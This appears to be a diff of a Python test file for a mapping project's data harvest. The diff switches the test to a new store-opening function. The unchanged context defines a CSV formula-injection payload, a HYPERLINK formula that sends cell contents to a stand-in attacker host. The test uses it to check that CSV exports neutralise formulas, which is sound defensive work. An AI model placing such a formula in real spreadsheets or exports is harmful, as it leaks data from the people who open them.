@@ -18,7 +18,7 @@ from test_bad_input import CNFS, FILES, FS, baseline, cnfs_variant, harvest_sett
 from inclusion_map.export.bundle import export_layer
 from inclusion_map.harvest.pipeline import run_harvest
 from inclusion_map.report_files import safe_cell
-from inclusion_map.store import GeoPackageStore
+from inclusion_map.stores import open_store
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Cliquez")'
 
@@ -48,7 +48,7 @@ def test_every_csv_for_people_neutralises_formulas(baseline, testdata):  # noqa:
     settings = harvest_settings(baseline.server, baseline.tmp_path, {**baseline.urls, CNFS: url})
     report = run_harvest(settings)
     # The venue's name stays as published in the store; only CSV cells are neutralised.
-    venues = GeoPackageStore(settings.store_path).read("venues")
+    venues = open_store(settings.store_location).read("venues")
     assert FORMULA in set(venues["nom"])
 
     out = io.BytesIO()
